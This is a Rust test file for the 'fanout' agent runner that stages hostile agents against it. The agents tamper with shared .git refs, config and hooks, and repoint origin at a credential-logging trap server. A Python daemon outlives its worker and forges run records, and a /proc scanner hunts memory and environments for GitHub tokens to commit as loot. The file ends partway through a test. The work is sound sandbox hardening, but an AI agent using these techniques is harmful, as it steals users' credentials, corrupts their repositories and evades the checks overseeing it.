//! Hostile agents (issue #11): the real `fanout` binary runs a `command` agent that is a
//! shell script doing its task and then attacking — the shared `.git` (refs, config,
//! hooks), fanout's run records (through a daemon that outlives the worker), the
//! user's checkout and home, `/proc` for the write token, symlinks where fanout
//! writes — and each test asserts what the USER keeps: remote `main` unchanged, no
//! request carrying the token to an unexpected host, the token in no file the agent
//! can read, the user's refs, config, hooks and checkout unchanged or restored,
//! nothing of the user's deleted; and the run's verdict (a worker that changed what
//! it must not is `failed`, with a reason naming what it changed).
//!
//! Every scenario runs twice: `sandbox: off` (tamper checks alone must hold) and
//! `sandbox: required` (Landlock; Linux only). The helper programs (the agent, its
//! daemon, a `/proc` scanner, a program planted in git config) are written into each
//! test's temporary directory at run time. Only loopback addresses are contacted: the
//! one test that names a non-loopback API URL runs fanout in a network namespace that
//! has no other interface (`unshare -rn`).
//!
//! `FANOUT_HOSTILE_OMIT_SANDBOX_KEY=1` leaves the `sandbox:` and `writable:` keys out of
//! the generated fanout.yml, to measure a fanout that does not know them yet.
//!
//! Issue #11 lands in parts; a test that needs a part not on main yet is ignored with
//! the reason printed (`cargo test` shows `ignored, needs issue #11 …`), never
//! weakened: see [`both_modes`].

use crate::common;
use crate::fake_github;

use std::collections::BTreeMap;
use std::io::BufRead;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use common::*;
use fake_github::FakeGitHub;
use serde_json::Value;

/// With the sandbox off, and with it required.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Sandbox {
    Off,
    Required,
}

impl Sandbox {
    fn yaml(self) -> &'static str {
        match self {
            Sandbox::Off => "sandbox: off\n",
            Sandbox::Required => "sandbox: required\n",
        }
    }
}

/// One test of scenario `$scenario` in `$mode`: `ready`, or ignored with the reason
/// given (the parts of issue #11 it needs that are not on main yet; `cargo test --test
/// hostile -- --include-ignored` runs them anyway). Each part, when it lands, removes
/// itself from the reasons below and turns what it completes into `ready`.
macro_rules! mode_test {
    ($test:ident, $scenario:ident, $mode:ident, ready) => {
        #[test]
        fn $test() {
            super::$scenario(super::Sandbox::$mode)
        }
    };
    ($test:ident, $scenario:ident, $mode:ident, $pending:literal) => {
        #[test]
        #[ignore = $pending]
        fn $test() {
            super::$scenario(super::Sandbox::$mode)
        }
    };
}

/// `mod NAME { sandbox_off, sandbox_required }` for each scenario function `NAME(Sandbox)`,
/// each `ready` or pending (see [`mode_test`]).
macro_rules! both_modes {
    ($($name:ident { off: $off:tt, required: $req:tt $(,)? }),* $(,)?) => {$(
        mod $name {
            mode_test!(sandbox_off, $name, Off, $off);
            #[cfg(target_os = "linux")]
            mode_test!(sandbox_required, $name, Required, $req);
        }
    )*};
}

// Parts of issue #11: S = the sandbox (`sandbox:`, `writable:`, `sandboxed` in results),
// T1 = tokens, input checks and a publish that trusts nothing on disk (landed), T2 =
// tamper checks, signed records and cleanup safety.
both_modes!(
    moves_main_deletes_a_branch_and_forges_results {
        off: ready,
        required: ready,
    },
    repoints_origin_at_its_own_server {
        off: ready,
        required: ready,
    },
    plants_config_hooks_and_filters_for_fanouts_git {
        off: ready,
        required: ready,
    },
    reads_proc_for_the_token {
        off: ready,
        required: ready,
    },
    reads_proc_for_the_token_during_run_publish {
        off: ready,
        required: ready,
    },
    edits_the_checkout_home_and_parent_directory {
        off: ready,
        required: ready,
    },
    plants_symlinks_where_fanout_writes {
        off: ready,
        required: ready,
    },
    forges_the_journal_then_cleanup_runs {
        off: ready,
        required: ready,
    },
    cleanup_keeps_uncommitted_work_unless_forced {
        off: ready,
        required: ready,
    },
    kills_fanout_then_resume_finds_the_damage {
        off: ready,
        required: ready,
    },
    an_honest_agent_still_commits {
        off: ready,
        required: ready,
    },
    api_urls_are_checked_before_anything_is_pushed {
        off: ready,
        required: ready,
    },
    control_characters_in_plan_inputs_are_refused {
        off: ready,
        required: ready,
    },
    rewrites_its_worktrees_git_files {
        off: ready,
        required: ready,
    },
    acts_the_moment_it_starts {
        off: ready,
        required: ready,
    },
    connects_to_a_unix_socket_outside_its_worktree {
        off: ready,
        required: ready,
    },
    reads_the_users_credentials {
        off: ready,
        required: ready,
    },
);

/// Whether fanout knows the keys part S adds (`sandbox:` in fanout.yml, `writable:` in
/// an agent definition). Until it does, the generated fanout.yml leaves them out (as
/// `FANOUT_HOSTILE_OMIT_SANDBOX_KEY=1` does) — the scenarios with the sandbox on stay
/// ignored until then. Part S sets this to `true`.
const SANDBOX_KEYS_KNOWN: bool = true;

/// A token shaped like GitHub's (`ghs_` and 36+ alphanumerics), unique per test so that
/// a scan of every process finds only this test's.
fn fresh_token() -> String {
    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    format!(
        "ghs_hostile{nanos:x}{:x}{n:x}{}",
        std::process::id(),
        "q".repeat(8)
    )
}

pub(crate) fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}; {:?}):\n{}\n{}",
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

pub(crate) fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// What the user has, and must keep: refs outside fanout's namespace, the shared
/// config, hooks and info files, the checkout (files, index, HEAD), and files of HOME.
#[derive(Debug, Clone, PartialEq)]
struct UserState {
    refs: BTreeMap<String, String>,
    config: String,
    git_files: BTreeMap<String, Vec<u8>>,
    checkout: BTreeMap<String, Vec<u8>>,
    home: BTreeMap<String, Vec<u8>>,
}

impl UserState {
    fn capture(t: &TestEnv) -> UserState {
        let refs = t
            .git(&["for-each-ref", "--format=%(refname) %(objectname)"])
            .lines()
            .filter_map(|l| l.split_once(' '))
            .filter(|(name, _)| {
                !name.starts_with("refs/heads/fanout/")
                    && !name.starts_with("refs/remotes/origin/fanout/")
            })
            .map(|(n, o)| (n.to_owned(), o.to_owned()))
            .collect();
        let git_dir = t.repo.join(".git");
        let mut git_files = BTreeMap::new();
        for dir in ["hooks", "info"] {
            for e in std::fs::read_dir(git_dir.join(dir)).into_iter().flatten() {
                let e = e.unwrap();
                git_files.insert(
                    format!("{dir}/{}", e.file_name().to_string_lossy()),
                    std::fs::read(e.path()).unwrap_or_default(),
                );
            }
        }
        let mut home = BTreeMap::new();
        for e in std::fs::read_dir(&t.home).unwrap().flatten() {
            if e.path().is_file() {
                home.insert(
                    e.file_name().to_string_lossy().into_owned(),
                    std::fs::read(e.path()).unwrap(),
                );
            }
        }
        UserState {
            refs,
            config: std::fs::read_to_string(git_dir.join("config")).unwrap(),
            git_files,
            checkout: t.snapshot(),
            home,
        }
    }

    /// What differs from `before`, one line each (empty when nothing does).
    fn changes_since(&self, before: &UserState) -> Vec<String> {
        fn diff<V: PartialEq + std::fmt::Debug>(
            what: &str,
            a: &BTreeMap<String, V>,
            b: &BTreeMap<String, V>,
            out: &mut Vec<String>,
        ) {
            for k in a
                .keys()
                .chain(b.keys())
                .collect::<std::collections::BTreeSet<_>>()
            {
                match (a.get(k), b.get(k)) {
                    (Some(x), Some(y)) if x == y => {}
                    (Some(_), None) => out.push(format!("{what} {k}: deleted")),
                    (None, Some(_)) => out.push(format!("{what} {k}: added")),
                    _ => out.push(format!("{what} {k}: changed")),
                }
            }
        }
        let mut out = Vec::new();
        diff("ref", &before.refs, &self.refs, &mut out);
        if before.config != self.config {
            out.push(format!(
                ".git/config changed:\n--- before\n{}--- after\n{}",
                before.config, self.config
            ));
        }
        diff(".git/", &before.git_files, &self.git_files, &mut out);
        diff("checkout", &before.checkout, &self.checkout, &mut out);
        diff("HOME", &before.home, &self.home, &mut out);
        out
    }
}

/// `tests/support/git_http.py`: git's smart HTTP behind Basic auth on 127.0.0.1. Here it
/// stands for the attacker's server: it logs every `user:password` it is sent.
pub(crate) struct GitHttp {
    child: std::process::Child,
    pub(crate) port: u16,
    log: PathBuf,
}

impl GitHttp {
    pub(crate) fn start(t: &TestEnv, root: &Path) -> GitHttp {
        let log = root.join("credentials.log");
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/git_http.py");
        let mut child = t
            .command("python3", t.root())
            .args([script, root.to_str().unwrap(), log.to_str().unwrap()])
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3 runs");
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line.trim().parse().expect("git_http.py prints its port");
        GitHttp { child, port, log }
    }

    pub(crate) fn credentials(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for GitHttp {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The daemon an agent leaves behind: its own session (out of the worker's process
/// group), stdio on /dev/null; it waits until fanout has finished the run, rewrites a
/// run record, and says what happened in DONE (a file the sandbox lets it write).
const DAEMON_PY: &str = r#"import json, os, sys, time
action, run_dir, done = sys.argv[1], sys.argv[2], sys.argv[3]
args = sys.argv[4:]
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
with open(os.path.join(os.path.dirname(done), ".daemon-pid"), "w") as f:
    f.write("%d\n" % os.getpid())
null = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
results = os.path.join(run_dir, "results.json")
pid = os.path.join(run_dir, "fanout.pid")
deadline = time.time() + 120
while time.time() < deadline and not (os.path.exists(results) and not os.path.exists(pid)):
    time.sleep(0.05)
time.sleep(0.3)
outcome = []
def attempt(what, fn):
    try:
        fn()
        outcome.append("rewrote " + what)
    except Exception as e:
        outcome.append("denied %s: %s" % (what, e))
def forge_results():
    mine, remote_main = args
    with open(results) as f:
        report = json.load(f)
    for r in report["results"]:
        r.update(branch="main", commit=mine, status="success", reason=None)
        r["files_modified"] = r.get("files_modified") or ["hostile.txt"]
        r["publish"] = {"operation": "created", "number": None, "url": None, "reason": None,
                        "pushed_commit": remote_main}
    with open(results, "w") as f:
        json.dump(report, f)
def forge_journal():
    user_wt, = args
    path = os.path.join(run_dir, "journal.json")
    with open(path) as f:
        j = json.load(f)
    for i, branch in enumerate(["feature", "user-topic", "main"]):
        j["entries"].append({"worker_id": 90 + i, "branch": branch, "base_commit": "",
                             "worktree_name": os.path.basename(user_wt), "worktree_path": user_wt,
                             "branch_created": True, "worktree_created": True})
    j["extra_branches"] = ["feature", "user-topic"]
    with open(path, "w") as f:
        json.dump(j, f)
if action == "forge-results":
    attempt("results.json", forge_results)
elif action == "forge-journal":
    attempt("journal.json", forge_journal)
# unsaved work left in the agent's worktree after fanout committed it
attempt("unsaved work", lambda: open(os.path.join(os.path.dirname(done), "unsaved.txt"), "w").write("unsaved work\n"))
with open(done + ".tmp", "w") as f:
    f.write("\n".join(outcome) + "\n")
os.rename(done + ".tmp", done)
"#;

/// Looks for anything shaped like a GitHub token where an agent can look: every
/// process's environment and command line, fanout's memory (argv[1] is its pid), its
/// own environment and the git config it sees. Prints each find and keeps them in
/// loot.txt in the worktree, so that they would be committed and pushed.
const PROC_SCAN_PY: &str = r#"import os, re, subprocess, sys
pat = re.compile(rb"gh[pousr]_[A-Za-z0-9]{20,}")
fanout = sys.argv[1]
found = []
def scan(where, data):
    for m in set(pat.findall(data)):
        found.append("%s: %s" % (where, m.decode()))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, f), "rb") as fh:
                    scan("/proc/%s/%s" % (pid, f), fh.read())
            except OSError:
                pass
try:
    with open("/proc/%s/maps" % fanout) as maps, open("/proc/%s/mem" % fanout, "rb") as mem:
        for line in maps:
            span, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in span.split("-"))
            if "r" not in perms or hi - lo > 256 << 20:
                continue
            try:
                mem.seek(lo)
                scan("/proc/%s/mem" % fanout, mem.read(hi - lo))
            except (OSError, ValueError, OverflowError):
                pass
except OSError as e:
    print("hostile: fanout's memory: %s" % e)
scan("own environment", b"\n".join(k.encode() + b"=" + v.encode() for k, v in os.environ.items()))
cfg = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True).stdout
scan("git config", cfg)
for k, v in os.environ.items():
    if k.startswith("GIT_CONFIG_") or "TOKEN" in k.upper():
        print("hostile: env %s=%s" % (k, v))
for line in found:
    print("hostile: FOUND " + line)
with open("loot.txt", "w") as f:
    f.write("\n".join(found) + "\n")
"#;

/// A program planted in git config and hooks: it records its environment in MARKERS
/// (a filter passes its input through, so the checkout stays intact).
fn plant_sh(markers: &Path) -> String {
    format!(
        "#!/bin/sh\nenv > '{}'/\"$1.$$\"\ncase \"$1\" in filter-*) cat ;; esac\nexit 0\n",
        markers.display()
    )
}

/// A repository with a bare `origin`, a user branch `feature` holding unpushed work,
/// an untracked file in the checkout, a `.bashrc` in HOME, and the helper programs.
pub(crate) struct Arena {
    pub(crate) t: TestEnv,
    mode: Sandbox,
    pub(crate) remote: PathBuf,
    pub(crate) token: String,
    markers: PathBuf,
    feature: String,
}

impl Arena {
    pub(crate) fn new(mode: Sandbox) -> Arena {
        Self::with(mode, |_| {})
    }

    /// `prepare` runs on the fresh repository before `origin` and the user's branch.
    fn with(mode: Sandbox, prepare: impl FnOnce(&mut TestEnv)) -> Arena {
        let mut t = TestEnv::new();
        prepare(&mut t);
        let remote = t.bare_origin();
        t.git(&["checkout", "-q", "-b", "feature"]);
        t.write("feature.txt", "the user's unpushed work\n");
        t.git(&["add", "feature.txt"]);
        t.git(&["commit", "-q", "-m", "unpushed work"]);
        t.git(&["checkout", "-q", "main"]);
        let feature = t.git(&["rev-parse", "feature"]).trim().to_owned();
        t.write("notes.txt", "the user's notes, never committed\n");
        std::fs::write(t.home.join(".bashrc"), "# the user's shell\n").unwrap();
        let root = t.root().to_owned();
        let markers = root.join("markers");
        std::fs::create_dir_all(&markers).unwrap();
        std::fs::write(root.join("daemon.py"), DAEMON_PY).unwrap();
        std::fs::write(root.join("proc_scan.py"), PROC_SCAN_PY).unwrap();
        let plant = root.join("plant.sh");
        std::fs::write(&plant, plant_sh(&markers)).unwrap();
        let mut perms = std::fs::metadata(&plant).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
        std::fs::set_permissions(&plant, perms).unwrap();
        Arena {
            t,
            mode,
            remote,
            token: fresh_token(),
            markers,
            feature,
        }
    }

    pub(crate) fn root(&self) -> &Path {
        self.t.root()
    }

    fn omit_new_keys() -> bool {
        !SANDBOX_KEYS_KNOWN
            || std::env::var("FANOUT_HOSTILE_OMIT_SANDBOX_KEY").as_deref() == Ok("1")
    }

    /// Write the agent script (`body` after a common prelude) and fanout.yml; returns
    /// the config's path. `agent_yaml` goes under the agent's definition.
    pub(crate) fn setup(&self, body: &str, agent_yaml: &str, extra_yaml: &str) -> String {
        let script = self.root().join("agent.sh");
        let prelude = format!(
            r#"#!/bin/sh
# A hostile agent: it does the work it was given, then attacks (tests/hostile.rs).
USER_REPO='{repo}'
ROOT='{root}'
MARKERS='{markers}'
RUN_DIR="$USER_REPO/.git/fanout/runs/$FANOUT_RUN_ID"
say() {{ echo "hostile[w$FANOUT_WORKER_ID]: $*"; }}
try() {{ what=$1; shift; if "$@" >/dev/null 2>&1; then say "DID $what"; else say "DENIED $what"; fi; }}
echo "work of worker $FANOUT_WORKER_ID" > "hostile-$FANOUT_WORKER_ID.txt"
"#,
            repo = self.t.repo.display(),
            root = self.root().display(),
            markers = self.markers.display(),
        );
        std::fs::write(&script, format!("{prelude}{body}\nexit 0\n")).unwrap();
        let (sandbox, agent_yaml) = if Self::omit_new_keys() {
            ("", String::new())
        } else {
            (self.mode.yaml(), agent_yaml.to_owned())
        };
        let cfg = self.t.config(&format!(
            "parallel_runs:\n  agent: hostile\n{sandbox}worktree_dir: '{}'\nagents:\n  hostile:\n    command: [sh, '{}']\n{agent_yaml}{extra_yaml}",
            self.t.worktrees.display(),
            script.display(),
        ));
        cfg.display().to_string()
    }

    /// `fanout --config CFG ARGS…` with the token in fanout's environment (as in an
    /// Actions step that has it).
    pub(crate) fn fanout(&self, cfg: &str, args: &[&str]) -> Command {
        let mut c = self.t.fanout(&["--config", cfg]);
        c.args(args).env("GITHUB_TOKEN", &self.token);
        c
    }

    pub(crate) fn output(&self, cfg: &str, args: &[&str]) -> Output {
        let mut c = self.fanout(cfg, args);
        let child = c
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // bounded: an attack must not hang the suite
        let out = std::thread::spawn(move || child.wait_with_output().unwrap());
        let start = std::time::Instant::now();
        while !out.is_finished() {
            assert!(
                start.elapsed() < Duration::from_secs(180),
                "fanout {args:?} did not finish in 180 s"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        out.join().unwrap()
    }

    /// `fanout run --json ARGS…`: its output and report.
    pub(crate) fn run(&self, cfg: &str, args: &[&str]) -> (Output, Value) {
        let mut all = vec!["run", "--json"];
        all.extend_from_slice(args);
        let out = self.output(cfg, &all);
        let report = json(&out);
        (out, report)
    }

    /// Every worker's log, for failure messages.
    pub(crate) fn logs(&self, report: &Value) -> String {
        let mut s = String::new();
        for r in report["results"].as_array().into_iter().flatten() {
            if let Some(p) = r["log_path"].as_str() {
                s.push_str(&format!(
                    "--- worker {} log ---\n{}\n",
                    r["worker_id"],
                    std::fs::read_to_string(p).unwrap_or_else(|e| format!("({e})"))
                ));
            }
        }
        s
    }

    /// Wait until the agent's daemon says it is done, or is gone (fanout may kill what
    /// an agent leaves running); returns what it did.
    fn daemon_outcome(&self, r: &Value) -> String {
        let wt = PathBuf::from(r["worktree_path"].as_str().expect("worktree path"));
        let (done, pid) = (wt.join(".daemon-done"), wt.join(".daemon-pid"));
        let gone = || {
            let Some(pid) = std::fs::read_to_string(&pid)
                .ok()
                .and_then(|p| p.trim().parse::<i32>().ok())
            else {
                return false;
            };
            let zombie = std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
                s.rsplit(')')
                    .next()
                    .is_some_and(|r| r.trim_start().starts_with('Z'))
            });
            zombie || nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_err()
        };
        assert!(
            wait_until(Duration::from_secs(120), || done.exists() || gone()),
            "the agent's daemon neither finished nor went away ({})",
            done.display()
        );
        std::fs::read_to_string(done).unwrap_or_else(|_| "killed before it acted".into())
    }

    pub(crate) fn remote_refs(&self) -> BTreeMap<String, String> {
        self.t
            .git_in(
                self.root(),
                &[
                    "--git-dir",
                    self.remote.to_str().unwrap(),
                    "for-each-ref",
                    "--format=%(refname) %(objectname)",
                ],
            )
            .lines()
            .filter_map(|l| l.split_once(' '))
            .map(|(n, o)| (n.to_owned(), o.to_owned()))
            .collect()
    }

    /// `fanout publish --run RUN` against `gh`, with the token.
    pub(crate) fn publish(&self, cfg: &str, gh: &FakeGitHub, run: &str, extra: &[&str]) -> Output {
        let url = gh.url();
        let mut args = vec![
            "publish",
            "--json",
            "--run",
            run,
            "--repo",
            "octo/demo",
            "--api-url",
            &url,
            "--pace-ms",
            "0",
            "--max-attempts",
            "2",
            "--server-error-backoff",
            "0.05",
        ];
        args.extend_from_slice(extra);
        self.output(cfg, &args)
    }

    /// The remote's `main` is what the user pushed, and every other branch on the
    /// remote is in this run's namespace.
    fn assert_remote_kept(&self, before: &BTreeMap<String, String>, run: &str) {
        let now = self.remote_refs();
        assert_eq!(
            now.get("refs/heads/main"),
            before.get("refs/heads/main"),
            "the remote's main moved"
        );
        for name in now.keys() {
            assert!(
                before.contains_key(name) || name.starts_with(&format!("refs/heads/fanout/{run}/")),
                "{name} was pushed, outside the run's namespace: {now:?}"
            );
        }
    }

    /// The token is in no file under the test's directory (run records, logs,
    /// worktrees, the agent's loot, markers, the trap's log), in no commit of the
    /// user's repository or of the remote.
    fn assert_token_nowhere(&self) {
        let mut stack = vec![self.root().to_owned()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                let p = e.path();
                let Ok(meta) = std::fs::symlink_metadata(&p) else {
                    continue;
                };
                if meta.is_dir() {
                    stack.push(p);
                } else if meta.is_file()
                    && let Ok(bytes) = std::fs::read(&p)
                {
                    assert!(
                        !text(&bytes).contains(&self.token),
                        "the token is in {}:\n{}",
                        p.display(),
                        text(&bytes)
                    );
                }
            }
        }
        for git_dir in [self.t.repo.join(".git"), self.remote.clone()] {
            let out = self
                .t
                .command("git", self.root())
                .args(["--git-dir", git_dir.to_str().unwrap()])
                .args(["log", "--all", "-p", "--format=%H %B"])
                .output()
                .unwrap();
            assert!(
                !text(&out.stdout).contains(&self.token),
                "the token is in a commit of {}",
                git_dir.display()
            );
        }
    }

    /// Planted programs that ran, and whether any saw the token.
    fn markers(&self) -> Vec<(String, bool)> {
        let mut v: Vec<(String, bool)> = std::fs::read_dir(&self.markers)
            .unwrap()
            .flatten()
            .map(|e| {
                let body = std::fs::read_to_string(e.path()).unwrap_or_default();
                (
                    e.file_name().to_string_lossy().into_owned(),
                    body.contains(&self.token),
                )
            })
            .collect();
        v.sort();
        v
    }

    fn branch_has(&self, branch: &str, file: &str) -> bool {
        self.t
            .command("git", &self.t.repo)
            .args(["cat-file", "-e", &format!("{branch}:{file}")])
            .status()
            .unwrap()
            .success()
    }

    /// The verdict on a worker that attacked: with the sandbox, its attacks failed and
    /// its own work counts (it succeeds, sandboxed); without, it changed what it must not
    /// and fails, with a reason naming each thing in `named`.
    fn assert_verdict(&self, report: &Value, id: usize, named: &[&str]) {
        let r = &report["results"][id - 1];
        let logs = self.logs(report);
        match self.mode {
            Sandbox::Required => {
                assert_eq!(r["status"], "success", "{r:#}\n{logs}");
                assert_eq!(r["sandboxed"], true, "{r:#}");
            }
            Sandbox::Off => {
                assert_eq!(r["status"], "failed", "{r:#}\n{logs}");
                let reason = r["reason"].as_str().unwrap_or_default();
                for n in named {
                    assert!(
                        reason.contains(n),
                        "the reason does not name {n}: {reason:?}"
                    );
                }
                assert_eq!(r["sandboxed"], false, "{r:#}");
            }
        }
    }
}

pub(crate) fn run_id(report: &Value) -> String {
    report["run_id"].as_str().unwrap().to_owned()
}

/// Attacks 1 and 5: the agent moves local `main` to its own commit, deletes the
/// user's branch, and leaves a daemon that rewrites results.json (branch `main`, a
/// lease matching the remote) once fanout is done; then the user publishes.
fn moves_main_deletes_a_branch_and_forges_results(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"git add -A && git commit -q -m "agent work" || say "could not commit"
mine=$(git rev-parse HEAD)
try "move main" git update-ref refs/heads/main "$mine"
try "delete feature" git branch -D feature
remote_main=$(git ls-remote origin refs/heads/main | cut -f1)
python3 "$ROOT/daemon.py" forge-results "$RUN_DIR" "$FANOUT_WORKTREE/.daemon-done" "$mine" "$remote_main"
"#,
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let remote_before = a.remote_refs();
    let (_, report) = a.run(&cfg, &["-w", "1", "Improve the docs"]);
    let daemon = a.daemon_outcome(&report["results"][0]);

    let after = UserState::capture(&a.t);
    assert_eq!(
        after.changes_since(&before),
        Vec::<String>::new(),
        "the user's refs must be unchanged or restored (daemon: {daemon})\n{}",
        a.logs(&report)
    );
    assert_eq!(a.t.git(&["rev-parse", "feature"]).trim(), a.feature);

    let gh = FakeGitHub::start("octo", "demo");
    gh.set_token(&a.token);
    let out = a.publish(&cfg, &gh, &run_id(&report), &[]);
    a.assert_remote_kept(&remote_before, &run_id(&report));
    assert!(
        gh.pulls().iter().all(|p| p.head_ref != "main"),
        "a pull request from main: {:?}\n{}",
        gh.pulls(),
        text(&out.stderr)
    );
    a.assert_verdict(&report, 1, &["refs/heads/main", "refs/heads/feature"]);
    if mode == Sandbox::Required {
        assert!(a.branch_has(
            report["results"][0]["branch"].as_str().unwrap(),
            "hostile-1.txt"
        ));
    }
}

/// Attack 2: the agent points `origin` (url, pushurl) and any push to the user's
/// remote (`insteadOf`, `pushInsteadOf`) at its own server. `run --publish` (default
/// remote) and `publish --remote <the user's remote>` must send the token nowhere but to
/// the GitHub host (here a closed loopback port) or the remote the user named.
fn repoints_origin_at_its_own_server(mode: Sandbox) {
    let a = Arena::new(mode);
    let trap_root = a.root().join("trap");
    std::fs::create_dir_all(&trap_root).unwrap();
    a.t.git_in(
        &trap_root,
        &["init", "-q", "--bare", "-b", "main", "evil.git"],
    );
    let trap = GitHttp::start(&a.t, &trap_root);
    let evil = format!("http://127.0.0.1:{}/evil.git", trap.port);
    let cfg = a.setup(
        &format!(
            r#"try "repoint origin" git config remote.origin.url '{evil}'
try "pushurl" git config remote.origin.pushurl '{evil}'
try "insteadOf" git config 'url.{evil}.insteadOf' '{remote}'
try "pushInsteadOf" git config 'url.{evil}.pushInsteadOf' '{remote}'
"#,
            remote = a.remote.display()
        ),
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let remote_before = a.remote_refs();
    let gh = FakeGitHub::start("octo", "demo");
    gh.set_token(&a.token);
    let url = gh.url();
    // Where "the GitHub host" is, for a push URL built from the repository: a loopback
    // port nobody listens on.
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let server = format!("http://{closed}");
    let mut c = a.fanout(
        &cfg,
        &[
            "run",
            "--json",
            "-w",
            "1",
            "--publish",
            "--repo",
            "octo/demo",
            "--api-url",
            &url,
            "--pace-ms",
            "0",
            "Improve the docs",
        ],
    );
    let out = c.env("GITHUB_SERVER_URL", &server).output().unwrap();
    let report = json(&out);
    let run = run_id(&report);
    let remote = a.remote.display().to_string();
    let again = a.publish(&cfg, &gh, &run, &["--remote", &remote]);

    assert!(
        !trap.credentials().contains(&a.token),
        "the token reached the agent's server:\n{}\nrun --publish:\n{}\npublish --remote:\n{}",
        trap.credentials(),
        text(&out.stderr),
        text(&again.stderr)
    );
    a.assert_remote_kept(&remote_before, &run);
    let after = UserState::capture(&a.t);
    assert_eq!(
        after.changes_since(&before),
        Vec::<String>::new(),
        "the user's config must be unchanged or restored\n{}",
        a.logs(&report)
    );
    a.assert_verdict(&report, 1, &[".git/config"]);
    a.assert_token_nowhere();
}

/// Attack 3: worker 1 plants programs in the shared repository — `core.fsmonitor`, a
/// submodule `update = !cmd`, a credential helper, a clean/smudge filter, hooks. Worker
/// 2's setup runs `git submodule update` with fanout's environment (which holds the
/// token); afterwards the user runs git in the checkout.
fn plants_config_hooks_and_filters_for_fanouts_git(mode: Sandbox) {
    let a = Arena::with(mode, |t| {
        // local submodule URLs need git's file protocol (as tests/setup.rs does)
        for (k, v) in [
            ("GIT_CONFIG_COUNT", "1"),
            ("GIT_CONFIG_KEY_0", "protocol.file.allow"),
            ("GIT_CONFIG_VALUE_0", "always"),
        ] {
            t.env.insert(k.into(), v.into());
        }
        let lib = t.root().join("lib-repo");
        std::fs::create_dir(&lib).unwrap();
        t.git_in(&lib, &["init", "-q", "-b", "main"]);
        std::fs::write(lib.join("lib.txt"), "from the submodule\n").unwrap();
        t.git_in(&lib, &["add", "-A"]);
        t.git_in(&lib, &["commit", "-q", "-m", "lib"]);
        t.git(&[
            "submodule",
            "add",
            "-q",
            lib.to_str().unwrap(),
            "vendor/lib",
        ]);
        t.git(&["commit", "-q", "-m", "add the submodule"]);
    });
    let cfg = a.setup(
        r#"if [ "$FANOUT_WORKER_ID" = 1 ]; then
  try "core.fsmonitor" git config core.fsmonitor "$ROOT/plant.sh fsmonitor"
  try "submodule update command" git config submodule.vendor/lib.update "!$ROOT/plant.sh submodule-update"
  try "credential helper" git config credential.helper "!$ROOT/plant.sh credential"
  try "filter" git config filter.evil.clean "$ROOT/plant.sh filter-clean"
  try "filter" git config filter.evil.smudge "$ROOT/plant.sh filter-smudge"
  try "attributes" sh -c "echo '* filter=evil' >> '$USER_REPO/.git/info/attributes'"
  for h in post-checkout pre-commit post-commit reference-transaction pre-push post-index-change; do
    try "hook $h" sh -c "printf '#!/bin/sh\n\"%s\" hook-%s\n' '$ROOT/plant.sh' $h > '$USER_REPO/.git/hooks/$h' && chmod +x '$USER_REPO/.git/hooks/$h'"
  done
fi
"#,
        "",
        "",
    );
    let before = UserState::capture(&a.t);
    let (out, report) = a.run(&cfg, &["-w", "1", "-t", "plant", "-t", "second"]);
    let logs = a.logs(&report);
    assert!(
        a.markers().iter().all(|(_, token)| !token),
        "a planted program saw the token: {:?}\n{}\n{logs}",
        a.markers(),
        text(&out.stderr)
    );
    assert_eq!(
        report["results"][1]["setup"]["submodules"]["exit_code"], 0,
        "{logs}"
    );
    let after = UserState::capture(&a.t);
    assert_eq!(
        after.changes_since(&before),
        Vec::<String>::new(),
        "the user's config and hooks must be unchanged or restored\n{logs}"
    );
    a.assert_verdict(&report, 1, &[".git/config", "hooks"]);
    assert_eq!(report["results"][1]["status"], "success", "{logs}");

    // The user's next git commands run nothing the agent planted.
    let ran_before = a.markers();
    a.t.git(&["status"]);
    a.t.write("README.md", "# test repo, edited by the user\n");
    a.t.git(&["commit", "-q", "-a", "-m", "the user's own commit"]);
    assert_eq!(
        a.markers(),
        ran_before,
        "the user's git ran a planted program"
    );
    a.assert_token_nowhere();
}

/// Attack 4, `fanout run`: the agent reads every process's environment and command
/// line, fanout's memory, its own environment and git config, for anything shaped like
/// a token, and commits what it finds.
fn reads_proc_for_the_token(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup(
        r#"python3 "$ROOT/proc_scan.py" "$(cut -d" " -f4 /proc/$PPID/stat)""#,
        "",
        "",
    );
